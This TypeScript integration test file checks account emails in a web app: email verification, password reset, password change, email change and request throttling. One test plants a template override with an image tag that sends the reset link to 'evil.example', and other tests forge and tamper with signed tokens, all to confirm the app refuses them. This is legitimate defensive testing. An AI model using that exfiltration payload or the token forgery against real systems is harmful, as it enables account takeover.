// Account emails over HTTP with the real app, queue and outbox: forgotten
// password (no account enumeration, throttled), single-use reset links that
// end every session, email verification on sign-up, password change, and an
// email change confirmed from the new address. Mails are read from the outbox
// (.eml files) and their links followed like a person would.
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { outboxMailsTo, waitForOutboxMail, type ParsedMail } from '../support/eml';
import { expectProblem, fieldsOf, newBusiness, TEST_PASSWORD, type TestBusiness } from '../support/factories';
import { accountLinkSigner, linkToken } from '../support/links';
import { startTestApp, type TestApp } from '../support/test-app';

const NEW_PASSWORD = 'Chadash-Sisma-2027';
const SUBJECTS = {
  verifyHe: 'אימות כתובת האימייל שלך',
  resetHe: 'איפוס הסיסמה שלך',
  resetEn: 'Reset your password',
  changeHe: 'אישור כתובת האימייל החדשה',
};

const uniqueEmail = (prefix: string) => `${prefix}-${randomBytes(5).toString('hex')}@example.co.il`;

/** The token with one character of its signature changed. */
function tampered(token: string): string {
  const [h, p, s] = token.split('.');
  const i = Math.floor(s.length / 2);
  return `${h}.${p}.${s.slice(0, i)}${s[i] === 'A' ? 'B' : 'A'}${s.slice(i + 1)}`;
}

/** The token's claims (not verified). */
const claimsOf = (token: string) => JSON.parse(Buffer.from(token.split('.')[1], 'base64url').toString()) as Record<string, unknown>;

describe('account emails', () => {
  let t: TestApp;
  let outbox: string;
  before(async () => {
    t = await startTestApp();
    outbox = join(t.dataDir, 'outbox');
  });
  after(() => t.close());

  const mailTo = (to: string, subject: string): Promise<ParsedMail> =>
    waitForOutboxMail(outbox, (m) => m.header('to') === to && m.subject === subject);
  const login = (email: string, password: string) => t.http.post('/api/auth/login').send({ email, password });
  const me = async (auth: Record<string, string>) => (await t.http.get('/api/auth/me').set(auth)).body as Record<string, unknown>;
  const requestReset = async (email: string): Promise<string> => {
    const res = await t.http.post('/api/auth/forgot-password').send({ email });
    assert.equal(res.status, 202, JSON.stringify(res.body));
    return linkToken(
      (await waitForOutboxMail(outbox, (m) => m.header('to') === email && /reset-password/.test(m.text))).text,
      'reset-password',
    );
  };

  describe('email verification', () => {
    it('welcomes a new owner with a verification link; following it marks the account verified', async () => {
      const email = uniqueEmail('new-owner');
      const reg = await t.http
        .post('/api/auth/register')
        .send({ email, password: TEST_PASSWORD, name: 'דנה לוי', businessName: 'סטודיו דנה' });
      assert.equal(reg.status, 201, JSON.stringify(reg.body));
      assert.equal(reg.body.user.emailVerified, false);
      const auth = { Authorization: `Bearer ${reg.body.accessToken}` };
      assert.equal((await me(auth)).emailVerified, false, 'the account works, marked unverified');

      const mail = await mailTo(email, SUBJECTS.verifyHe);
      assert.ok(mail.text.includes('שלום דנה לוי,'), mail.text);
      assert.match(mail.text, /http:\/\/localhost:3000\/verify-email\?token=/);
      assert.match(mail.text, /בתוקף 24 שעות/);
      const token = linkToken(mail.text, 'verify-email');

      assert.equal(
        expectProblem(await t.http.post('/api/auth/verify-email').send({ token: tampered(token) }), 401).code,
        'auth.invalid_link',
      );
      assert.equal((await me(auth)).emailVerified, false);

      assert.equal((await t.http.post('/api/auth/verify-email').send({ token })).status, 204);
      assert.equal((await me(auth)).emailVerified, true);
      assert.equal((await t.http.post('/api/auth/verify-email').send({ token })).status, 204, 'following it again changes nothing');
      const again = await login(email, TEST_PASSWORD);
      assert.equal(again.body.user.emailVerified, true, 'the session user says so too');
      assert.equal(
        expectProblem(await t.http.post('/api/auth/resend-verification').set(auth).send({}), 409).code,
        'auth.email_already_verified',
      );
    });

    it('re-sends a verification link on request; a link of another kind or with a changed payload is refused', async () => {
      const owner = await newBusiness(t.http);
      await mailTo(owner.email, SUBJECTS.verifyHe);
      const res = await t.http.post('/api/auth/resend-verification').set(owner.auth).send({});
      assert.equal(res.status, 202, JSON.stringify(res.body));
      assert.equal(typeof res.body.message, 'string');
      const mails = await waitFor(() => outboxMailsTo(outbox, owner.email).filter((m) => m.subject === SUBJECTS.verifyHe), 2);
      // Both links work until the address is verified; use one of the two mails.
      const second = linkToken(mails[1].text, 'verify-email');

      const reset = await requestReset(owner.email);
      const wrongKind = expectProblem(await t.http.post('/api/auth/verify-email').send({ token: reset }), 401);
      assert.equal(wrongKind.code, 'auth.invalid_link');
      const [h, , s] = second.split('.');
      const otherUser = Buffer.from(JSON.stringify({ ...claimsOf(second), sub: '00000000-0000-4000-8000-000000000000' })).toString(
        'base64url',
      );
      expectProblem(await t.http.post('/api/auth/verify-email').send({ token: `${h}.${otherUser}.${s}` }), 401);
      assert.equal((await me(owner.auth)).emailVerified, false);

      assert.equal((await t.http.post('/api/auth/verify-email').send({ token: second })).status, 204);
      assert.equal((await me(owner.auth)).emailVerified, true);
    });
  });

  describe('forgotten password', () => {
    it('answers 202 with the same body for a known and an unknown address; only the known one gets a mail', async () => {
      const owner = await newBusiness(t.http);
      const unknown = uniqueEmail('nobody');
      const forUnknown = await t.http.post('/api/auth/forgot-password').send({ email: unknown });
      const forKnown = await t.http.post('/api/auth/forgot-password').send({ email: `  ${owner.email.toUpperCase()} ` });
      assert.equal(forUnknown.status, 202);
      assert.equal(forKnown.status, 202);
      assert.deepEqual(forKnown.body, forUnknown.body);
      assert.deepEqual(Object.keys(forKnown.headers).sort(), Object.keys(forUnknown.headers).sort());

      const mail = await mailTo(owner.email, SUBJECTS.resetHe);
      assert.match(mail.text, /http:\/\/localhost:3000\/reset-password\?token=/);
      assert.match(mail.text, /בתוקף 30 דקות/);
      // The unknown address was asked first; the known one's mail has gone, and none to the unknown one.
      assert.deepEqual(outboxMailsTo(outbox, unknown), []);
      expectProblem(await t.http.post('/api/auth/forgot-password').send({ email: 'not-an-email' }), 400);
    });

    it('resets the password once with the link: every session ends, the new password logs in, the address counts as verified', async () => {
      const owner = await newBusiness(t.http);
      const otherDevice = await login(owner.email, TEST_PASSWORD);
      assert.equal(otherDevice.status, 200);
      const token = await requestReset(owner.email);

      const weak = expectProblem(await t.http.post('/api/auth/reset-password').send({ token, password: 'short' }), 400);
      assert.deepEqual([...new Set(fieldsOf(weak))], ['password']);
      expectProblem(await t.http.post('/api/auth/reset-password').send({ token: tampered(token), password: NEW_PASSWORD }), 401);

      assert.equal((await t.http.post('/api/auth/reset-password').send({ token, password: NEW_PASSWORD })).status, 204);
      for (const refreshToken of [owner.refreshToken, otherDevice.body.refreshToken]) {
        expectProblem(await t.http.post('/api/auth/refresh').send({ refreshToken }), 401);
      }
      expectProblem(await login(owner.email, TEST_PASSWORD), 401);
      const fresh = await login(owner.email, NEW_PASSWORD);
      assert.equal(fresh.status, 200);
      assert.equal(fresh.body.user.emailVerified, true);

      const reused = expectProblem(await t.http.post('/api/auth/reset-password').send({ token, password: 'Od-Sisma-Achat-2028' }), 401);
      assert.equal(reused.code, 'auth.invalid_link');
      assert.equal((await login(owner.email, NEW_PASSWORD)).status, 200, 'the second use changed nothing');
    });

    it('refuses an expired link, and one issued before the password changed', async () => {
      const owner = await newBusiness(t.http);
      const token = await requestReset(owner.email);
      const claims = claimsOf(token);
      // The real claims, re-signed with the app's key as if issued an hour ago: the signature holds, the time is up.
      const aged = accountLinkSigner().sign({ ...claims, iat: Number(claims.iat) - 3600, exp: Number(claims.iat) - 1 });
      assert.equal(
        expectProblem(await t.http.post('/api/auth/reset-password').send({ token: aged, password: NEW_PASSWORD }), 401).code,
        'auth.link_expired',
      );

      const changed = await t.http
        .post('/api/auth/change-password')
        .set(owner.auth)
        .send({ currentPassword: TEST_PASSWORD, newPassword: NEW_PASSWORD });
      assert.equal(changed.status, 200, JSON.stringify(changed.body));
      const stale = expectProblem(await t.http.post('/api/auth/reset-password').send({ token, password: 'Od-Sisma-Achat-2028' }), 401);
      assert.equal(stale.code, 'auth.invalid_link');
      assert.equal((await login(owner.email, NEW_PASSWORD)).status, 200);
    });

    it('mails in the business language, never from a business override, and keeps the link out of the message log API', async () => {
      const owner = await newBusiness(t.http);
      assert.equal((await t.http.patch('/api/business').set(owner.auth).send({ locale: 'en' })).status, 200);
      const override = await t.http
        .put('/api/notifications/templates/account.password_reset/email/en')
        .set(owner.auth)
        .send({ subject: 'OVERRIDDEN', body: 'OVERRIDDEN {{ resetUrl }}', html: '<img src="https://evil.example/?u={{ resetUrl }}">' });
      assert.equal(override.status, 200, JSON.stringify(override.body));

      const token = await requestReset(owner.email);
      const mail = await mailTo(owner.email, SUBJECTS.resetEn);
      assert.match(mail.text, /Choose a new password \(the link works for 30 minutes\):/);
      assert.doesNotMatch(mail.text + mail.html, /OVERRIDDEN|evil\.example/);

      const history = await t.http.get('/api/notifications/history').query({ template: 'account.password_reset' }).set(owner.auth);
      assert.equal(history.status, 200);
      assert.equal(history.body.meta.total, 1);
      const [message] = history.body.data;
      assert.equal(message.to, owner.email);
      assert.equal(message.html, null);
      assert.ok(!JSON.stringify(history.body).includes(token), 'the link is not shown');
      const one = await t.http.get(`/api/notifications/history/${message.id}`).set(owner.auth);
      assert.ok(!JSON.stringify(one.body).includes(token));
    });
  });

  describe('password change', () => {
    it('refuses a wrong current password (403) and a weak new one; a change ends every other session', async () => {
      const owner = await newBusiness(t.http);
      const otherDevice = await login(owner.email, TEST_PASSWORD);
      const change = (body: object, auth: Record<string, string> = owner.auth) =>
        t.http.post('/api/auth/change-password').set(auth).send(body);

      const wrong = expectProblem(await change({ currentPassword: 'not-the-password-1', newPassword: NEW_PASSWORD }), 403);
      assert.equal(wrong.code, 'auth.wrong_password');
      const weak = expectProblem(await change({ currentPassword: TEST_PASSWORD, newPassword: 'weakweakweak' }), 400);
      assert.deepEqual([...new Set(fieldsOf(weak))], ['newPassword']);
      assert.equal((await t.http.post('/api/auth/refresh').send({ refreshToken: otherDevice.body.refreshToken })).status, 200);

      const res = await change({ currentPassword: TEST_PASSWORD, newPassword: NEW_PASSWORD });
      assert.equal(res.status, 200, JSON.stringify(res.body));
      expectProblem(await t.http.post('/api/auth/refresh').send({ refreshToken: owner.refreshToken }), 401);
      const renewed = await t.http.post('/api/auth/refresh').send({ refreshToken: res.body.refreshToken });
      assert.equal(renewed.status, 200, 'the new session works');
      assert.equal((await me({ Authorization: `Bearer ${res.body.accessToken}` })).id, owner.userId);
      expectProblem(await login(owner.email, TEST_PASSWORD), 401);
      assert.equal((await login(owner.email, NEW_PASSWORD)).status, 200);

      const key = await t.http.post('/api/api-keys').set(owner.auth).send({ name: 'website', role: 'admin' });
      const byKey = expectProblem(
        await change({ currentPassword: NEW_PASSWORD, newPassword: TEST_PASSWORD }, { 'x-api-key': key.body.key }),
        403,
      );
      assert.equal(byKey.code, 'auth.user_only');
    });
  });

  describe('email change', () => {
    const changeEmail = (owner: TestBusiness, body: object) => t.http.post('/api/auth/change-email').set(owner.auth).send(body);
    const confirm = (token: string) => t.http.post('/api/auth/confirm-email-change').send({ token });

    it('sends the link to the new address; nothing changes until it is followed, then the new address is the login', async () => {
      const owner = await newBusiness(t.http);
      const other = await newBusiness(t.http);
      const newEmail = uniqueEmail('moved');
      assert.equal(
        expectProblem(await changeEmail(owner, { currentPassword: 'wrong-password-1', newEmail }), 403).code,
        'auth.wrong_password',
      );
      assert.equal(
        expectProblem(await changeEmail(owner, { currentPassword: TEST_PASSWORD, newEmail: owner.email }), 400).code,
        'auth.email_unchanged',
      );
      assert.equal(
        expectProblem(await changeEmail(owner, { currentPassword: TEST_PASSWORD, newEmail: other.email }), 409).code,
        'auth.email_taken',
      );

      const res = await changeEmail(owner, { currentPassword: TEST_PASSWORD, newEmail: newEmail.toUpperCase() });
      assert.equal(res.status, 202, JSON.stringify(res.body));
      const mail = await mailTo(newEmail, SUBJECTS.changeHe);
      assert.ok(mail.text.includes(`ל-${newEmail}.`), mail.text);
      const token = linkToken(mail.text, 'confirm-email');
      assert.ok(!outboxMailsTo(outbox, owner.email).some((m) => m.subject === SUBJECTS.changeHe), 'nothing to the old address');

      assert.equal((await me(owner.auth)).email, owner.email, 'unchanged until confirmed');
      assert.equal((await login(owner.email, TEST_PASSWORD)).status, 200);
      expectProblem(await confirm(tampered(token)), 401);

      const done = await confirm(token);
      assert.equal(done.status, 200, JSON.stringify(done.body));
      assert.deepEqual(
        { id: done.body.id, email: done.body.email, emailVerified: done.body.emailVerified },
        {
          id: owner.userId,
          email: newEmail,
          emailVerified: true,
        },
      );
      expectProblem(await login(owner.email, TEST_PASSWORD), 401);
      assert.equal((await login(newEmail, TEST_PASSWORD)).status, 200);
      assert.equal((await me(owner.auth)).email, newEmail);
      assert.equal(expectProblem(await confirm(token), 401).code, 'auth.invalid_link', 'single use');
    });

    it('answers 409 when the new address was taken meanwhile, and leaves the account as it was', async () => {
      const owner = await newBusiness(t.http);
      const wanted = uniqueEmail('wanted');
      assert.equal((await changeEmail(owner, { currentPassword: TEST_PASSWORD, newEmail: wanted })).status, 202);
      const token = linkToken((await mailTo(wanted, SUBJECTS.changeHe)).text, 'confirm-email');
      const taker = await t.http
        .post('/api/auth/register')
        .send({ email: wanted, password: TEST_PASSWORD, name: 'נועה', businessName: 'אחר' });
      assert.equal(taker.status, 201);
      assert.equal(expectProblem(await confirm(token), 409).code, 'auth.email_taken');
      assert.equal((await me(owner.auth)).email, owner.email);
      assert.equal((await login(owner.email, TEST_PASSWORD)).status, 200);
    });
  });
});

describe('account request throttling', () => {
  let t: TestApp;
  before(async () => {
    t = await startTestApp({ ACCOUNT_RATE_LIMIT_MAX: '3', ACCOUNT_RATE_LIMIT_TTL: '60' });
  });
  after(() => t.close());

  const forgot = (email: string, ip: string) => t.http.post('/api/auth/forgot-password').set('X-Forwarded-For', ip).send({ email });

  it('answers 429 with Retry-After once an address, or a client, has spent its budget', async () => {
    const victim = uniqueEmail('victim');
    for (let i = 1; i <= 3; i++) assert.equal((await forgot(victim, `198.51.100.${i}`)).status, 202);
    const blocked = expectProblem(await forgot(victim, '198.51.100.4'), 429);
    assert.equal(blocked.code, 'auth.too_many_attempts');
    assert.ok(Number((await forgot(victim, '198.51.100.5')).headers['retry-after']) > 0);

    for (let i = 0; i < 3; i++) assert.equal((await forgot(uniqueEmail('other'), '203.0.113.9')).status, 202);
    expectProblem(await forgot(uniqueEmail('other'), '203.0.113.9'), 429);
    assert.equal((await forgot(uniqueEmail('other'), '203.0.113.10')).status, 202, 'another client and address go on');
  });

  it('counts password changes per user, so a stolen session cannot guess the password', async () => {
    const owner = await newBusiness(t.http);
    for (let i = 1; i <= 3; i++) {
      const res = await t.http
        .post('/api/auth/change-password')
        .set(owner.auth)
        .set('X-Forwarded-For', `192.0.2.${i}`)
        .send({ currentPassword: `wrong-guess-${i}`, newPassword: NEW_PASSWORD });
      expectProblem(res, 403);
    }
    const res = await t.http
      .post('/api/auth/change-password')
      .set(owner.auth)
      .set('X-Forwarded-For', '192.0.2.99')
      .send({ currentPassword: TEST_PASSWORD, newPassword: NEW_PASSWORD });
    expectProblem(res, 429);
  });
});

/** Polls until `read` returns at least `count` items (mails are written by a job). */
async function waitFor<T>(read: () => T[], count: number, timeoutMs = 20_000): Promise<T[]> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const items = read();
    if (items.length >= count) return items;
    if (Date.now() > deadline) throw new Error(`Only ${items.length} of ${count} after ${timeoutMs} ms`);
    await new Promise((r) => setTimeout(r, 50));
  }
}
